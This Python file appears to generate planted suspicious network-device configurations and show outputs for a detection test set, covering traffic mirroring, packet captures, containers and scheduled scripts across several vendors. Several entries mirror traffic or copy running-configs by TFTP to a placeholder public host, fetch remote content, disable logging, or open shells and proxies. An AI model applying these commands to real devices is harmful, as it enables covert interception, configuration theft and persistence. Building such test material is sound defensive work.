"""Mirrors, captures, containers, scripts."""
from mutation.plant import add, state

add('MIR-01', 'IX', 'monitor session 7 source interface Gi0/1 both\nmonitor session 7 destination interface Gi0/9', 'monitor session 7 source vlan {vlan}', 'monitor session 7 destination remote vlan {vlan}')
add('MIR-01', 'N', 'monitor session 7\n source interface Ethernet1/1 both\n destination interface Ethernet1/9\n no shut')
add('MIR-01', 'R', 'monitor-session {word} ethernet\n destination interface GigabitEthernet0/0/0/9', 'monitor-session {word}\n destination interface GigabitEthernet0/0/0/9')
add('MIR-01', 'E', 'monitor session {word} source Ethernet1 both\nmonitor session {word} destination Ethernet9')
add('MIR-01', 'J', 'forwarding-options > analyzer {word} > input > ingress > interface ge-0/0/1.0\nforwarding-options > analyzer {word} > output > interface ge-0/0/9.0',
    'forwarding-options > port-mirroring > family inet > output > interface ge-0/0/9.0', 'ethernet-switching-options > analyzer {word} > output > interface ge-0/0/9.0')
add('MIR-01', 'H', 'observe-port 1 interface GigabitEthernet0/0/1', 'interface ~\n port-mirroring to observe-port 1 both', 'observing-port 1 interface GigabitEthernet0/0/1')
add('MIR-01', 'F', 'config system virtual-switch\n    edit "{word}"\n        set span enable\n        set span-source-port "port1"\n        set span-dest-port "port9"\n    next\nend')
add('MIR-01', 'V', 'interfaces > ethernet eth0 > mirror > ingress eth1', 'interfaces > ethernet eth0 > mirror eth1')
add('MIR-02', 'IX', 'monitor session 7 type erspan-source\n source interface Gi0/1\n destination\n  erspan-id {n}\n  ip address {pub}\n  origin ip address 192.0.2.1')
add('MIR-02', 'N', 'monitor session 7 type erspan-source\n erspan-id {n}\n vrf default\n destination ip {pub}\n source interface Ethernet1/1 both\n no shut')
add('MIR-02', 'R', 'monitor-session {word} ethernet\n destination pseudowire', 'monitor-session {word} ipv4\n destination next-hop {pub}')
add('MIR-02', 'E', 'monitor session {word} source Ethernet1\nmonitor session {word} destination tunnel mode gre source 192.0.2.1 destination {pub}')
add('MIR-02', 'J', 'forwarding-options > analyzer {word} > output > ip-address {pub}', 'forwarding-options > port-mirroring > family inet > output > next-hop {pub}',
    'forwarding-options > port-mirroring > instance {word} > family inet > output > interface gr-0/0/0.7')
add('MIR-02', 'H', 'observe-port 1 destination-ip {pub} source-ip 192.0.2.1', 'observe-server destination-ip {pub} source-ip 192.0.2.1')
add('MIR-02', 'M', '/tool sniffer\n set streaming-enabled=yes streaming-server={pub}', '/ip firewall mangle\n add action=sniff-tzsp chain=prerouting sniff-target={pub} sniff-target-port=37008')
add('MIR-03', 'IX', 'monitor capture {name} interface GigabitEthernet1 both match ipv4 protocol tcp any any eq 49', 'monitor capture point ip cef {name} GigabitEthernet0/0 both', 'monitor capture buffer {name}')
state('MIR-03', 'IX', 'show monitor capture', """
*Status Information for Capture {name}
*  Target Type:
* Interface: GigabitEthernet1, Direction: BOTH
*   Status : Active
*  Filter Details:
*   Capture all packets
*  Buffer Details:
*   Buffer Type: LINEAR (default)""")
state('MIR-03', 'X', 'show monitor capture {name}', """
*Status Information for Capture {name}
*  Target Type:
* Interface: GigabitEthernet1, Direction: BOTH
*   Status : Inactive
*  File Details:
*   Associated file name: bootflash:mycap.pcap""")
state('MIR-03', 'N', 'show accounting log', """Sun Jan 12 09:59:01 2025:type=update:id=192.0.2.10@pts/0:user=noc-admin:cmd=configure terminal ; interface Ethernet1/1 (SUCCESS)
*Sun Jan 12 10:02:01 2025:type=update:id={pub}@pts/1:user={user}:cmd=ethanalyzer local interface mgmt write bootflash:tac.pcap (SUCCESS)""")
add('MIR-03', 'A', 'capture {word} interface inside match tcp any any eq tacacs', 'capture {word} type raw-data interface outside')
state('MIR-03', 'A', 'show capture', """*capture {word} type raw-data interface outside [Capturing - 1204 bytes]""")
add('MIR-03', 'J', 'forwarding-options > packet-capture > file > filename {word}', 'forwarding-options > packet-capture > maximum-capture-size 1500')
add('MIR-03', 'F', 'config firewall sniffer\n    edit 1\n        set interface "port1"\n        set host "{lan}"\n    next\nend')
add('MIR-03', 'M', '/tool sniffer\n set file-name={word}.pcap filter-interface=ether1')
FILES = {
    'IX': ('dir bootflash:', """Directory of bootflash:/

   11  drwx            16384  Jan 10 2025 08:00:00 +00:00  lost+found
   12  -rw-        812304822  Jan 10 2025 08:05:00 +00:00  isr4300-universalk9.17.03.04a.SPA.bin
*   15  -rw-           812304  Jan 12 2025 10:02:01 +00:00  %s

7897796608 bytes total (6400331776 bytes free)"""),
    'N': ('dir bootflash:', """       4096    Jan 10 08:00:00 2025  .rpmstore/
  982345216    Jan 10 08:05:00 2025  nxos.9.3.3.bin
*     812304    Jan 12 10:02:01 2025  %s

Usage for bootflash://
 1234567890 bytes used
 9876543210 bytes free
11111111100 bytes total"""),
    'A': ('dir disk0:', """Directory of disk0:/

10     drwx  8192         08:00:00 Jan 10 2025  log
11     -rwx  109251584    08:05:00 Jan 10 2025  asa9-12-4-67-smp-k8.bin
*25     -rwx  812304       10:02:01 Jan 12 2025  %s

16106127360 bytes total (12345678 bytes free)"""),
    'R': ('dir harddisk:', """Directory of harddisk:

2           drwx        4096        Fri Jan 10 08:00:00 2025  cisco_support
*15          -rwx        812304      Sun Jan 12 10:02:01 2025  %s

12884901888 bytes total (12345678 bytes free)"""),
    'J': ('file list /var/tmp detail', """/var/tmp:
total blocks: 208
-rw-r--r--  1 root  wheel       1204 Jan 10 08:00  preinstall_boot_loader.conf
*-rw-r--r--  1 root  wheel     812304 Jan 12 10:02  %s
total files: 2"""),
    'E': ('dir flash:', """Directory of flash:/

       -rw-   982345216            Jan 10  2025  EOS-4.27.0F.swi
*       -rw-      812304            Jan 12 10:02  %s

3440762880 bytes total (1234567890 bytes free)"""),
    'H': ('dir', """Directory of cfcard:/

  Idx  Attr     Size(Byte)  Date        Time(LMT)  FileName
    0  -rw-    982,345,216  Jan 10 2025 08:00:00   V800R011C00SPC200.cc
*    1  -rw-        812,304  Jan 12 2025 10:02:01   %s

1,012,000 KB total (512,000 KB free)"""),
    'M': ('/file print', """Columns: NAME, TYPE, SIZE, CREATION-TIME
#  NAME          TYPE       SIZE     CREATION-TIME
0  skins         directory           2025-01-10 08:00:00
*1  %s     .file      812.3KiB  2025-01-12 10:02:01"""),
    'V': ('ls -la /config', """total 208
drwxrwsr-x 1 root vyattacfg   4096 Jan 10 08:00 scripts
*-rw-r--r-- 1 root vyattacfg 812304 Jan 12 10:02 %s"""),
}
for dialects, (command, text) in FILES.items():
    for name in ('mycap.pcap', 'tac.pcap', '1.pcap', '{word}.cap'):
        state('MIR-04', dialects, command, text.replace('%s', name), tries=1)
    for name in ('{word}.py', '{word}.tcl', 'client_bundle_{n}.zip', '{word}.tar', '{word}.sh') + (('system_shell_R0-0.20250112.log',) if dialects == 'IX' else ()):
        state('CON-08', dialects, command, text.replace('%s', name), tries=1)
add('MIR-05', 'J', 'services > flow-tap > interface sp-0/0/0.100', 'services > dynamic-flow-capture > capture-group {word} > content-destination {name} > address {pub}',
    'firewall > family inet > filter {name} > term tap > then > port-mirror', 'firewall > family inet > filter {name} > term tap > then > sample')
SPAN = """Session 7
---------
*Type                     : Local Session
*Source Ports             :
*    Both                 : Gi0/1
*Destination Ports      : Gi0/9
*    Encapsulation      : Native
*          Ingress      : Disabled"""
state('MIR-06', 'IX', 'show monitor session all', '\n'.join('*' + x.lstrip('*') for x in SPAN.split('\n')))
state('MIR-06', 'N', 'show monitor session all', """*   session 7
*---------------
*type              : local
*state             : up
*source intf       :
*    rx            : Eth1/1
*    tx            : Eth1/1
*    both          : Eth1/1
*destination ports : Eth1/9""")
state('MIR-06', 'E', 'show monitor session', """*Session 7
*------------------------
*
*Source Ports:
*
*  Both:             Et1
*
*Destination Ports:
*
*  Et9 :  active""")
state('MIR-06', 'R', 'show monitor-session status', """*Monitor-session spy
*Destination interface GigabitEthernet0/0/0/9
*================================================================================
*Source Interface      Dir   Status
*--------------------- ----  ----------------------------------------------------
*Gi0/0/0/1             Both  Operational""")
state('MIR-06', 'J', 'show forwarding-options analyzer', """*  Analyzer name                         : spy
*    Mirror rate                         : 1
*    Maximum packet length               : 0
*    State                               : up
*    Ingress monitored interfaces        : ge-0/0/1.0
*    Output interface                    : ge-0/0/9.0""")
state('MIR-06', 'H', 'display port-mirroring', """*  Observe-port 1 : GigabitEthernet0/0/9
*  Port-mirror:
*  ----------------------------------------------------------------------
*       Mirror-port               Direction  Observe-port
*  ----------------------------------------------------------------------
*  1    GigabitEthernet0/0/1      Both       Observe-port 1""")

# CON
add('CON-01', 'X', 'iox', 'app-hosting appid {word}\n app-vnic gateway0 virtualportgroup 0 guest-interface 0\n  guest-ipaddress 192.168.35.2 netmask 255.255.255.0', 'virtual-service {word}\n activate')
add('CON-01', 'N', 'virtual-service {word}\n activate', 'feature guestshell')
state('CON-01', 'XN', 'show guestshell detail', """*Virtual service guestshell+ detail
*  State                 : Activated
*  Package information
*    Name                : guestshell.ova
*    Path                : /isanboot/bin/guestshell.ova""")
state('CON-02', 'X', 'show app-hosting list', """App id                                   State
---------------------------------------------------------
*{word}                                RUNNING""")
state('CON-02', 'N', 'show virtual-service list', """Virtual Service List:

Name                    Status             Package Name
-----------------------------------------------------------------------
*{word}             Activated          {word}.ova""")
state('CON-02', 'R', 'run docker ps', """CONTAINER ID        IMAGE               COMMAND             CREATED             STATUS              PORTS               NAMES
*0a1b2c3d4e5f        {word}:latest    "/bin/sh"           2 days ago          Up 2 days                               {word}""")
state('CON-02', 'E', 'bash docker ps', """CONTAINER ID        IMAGE               COMMAND             CREATED             STATUS              PORTS               NAMES
*0a1b2c3d4e5f        {word}:latest    "/bin/sh"           2 days ago          Up 2 days                               {word}""")
EEM = 'event manager applet {name}\n event timer watchdog time 600\n action 1.0 cli command "enable"\n action 2.0 cli command "%s"'
add('CON-03', 'IXN', EEM % 'no logging host 192.0.2.50', EEM % 'copy running-config tftp://{pub}/{word}', EEM % 'show clock', 'event manager policy {word}.tcl type user')
add('CON-03', 'R', 'event manager policy {word}.tcl username {user} persist-time 3600')
add('CON-04', 'IX', 'kron occurrence {name} in 1:0 recurring\n policy-list {name}', 'kron policy-list {name}\n cli copy running-config tftp://{pub}/{word}')
add('CON-04', 'N', 'feature scheduler\nscheduler job name {name}\n copy running-config tftp://{pub}/{word} vrf management\nend-job', 'scheduler schedule name {name}\n job name {word}\n time daily 3:00')
add('CON-04', 'J', 'event-options > generate-event > {word} > time-interval 3600', 'event-options > policy {word} > then > event-script {word}.slax')
add('CON-04', 'E', 'event-handler {name}\n trigger on-boot\n action bash /mnt/flash/{word}.sh', 'schedule {word} interval 60 max-log-files 1 command bash /mnt/flash/{word}.sh')
add('CON-04', 'F', 'config system automation-stitch\n    edit "{word}"\n        set trigger "{name}"\n    next\nend', 'config system auto-script\n    edit "{word}"\n        set interval 3600\n        set start auto\n    next\nend')
add('CON-04', 'M', '/system scheduler\n add interval=30m name={word} on-event="/tool fetch url=http://{pub}/a mode=http"', '/system scheduler\n add interval=1d name={word} on-event={name}')
add('CON-04', 'V', 'system > task-scheduler > task {word} > interval 1h\nsystem > task-scheduler > task {word} > executable > path /config/scripts/{word}.sh')
add('CON-05', 'IX', 'event manager directory user policy "flash:/{word}"', 'scripting tcl init flash:{word}.tcl')
add('CON-05', 'J', 'system > scripts > op > file {word}.slax', 'system > scripts > commit > file {word}.py', 'event-options > event-script > file {word}.slax', 'system > scripts > language python')
add('CON-06', 'N', 'feature bash-shell')
add('CON-06', 'X', 'platform shell')
add('CON-07', 'IX', 'alias exec show show clock', 'alias exec ping telnet {pub}')
add('CON-07', 'M', '/ip socks\n set enabled=yes port=4145', '/ip proxy\n set enabled=yes port=8080', '/ip dns\n set allow-remote-requests=yes')
add('CON-07', 'F', 'config web-proxy explicit\n    set status enable\nend')
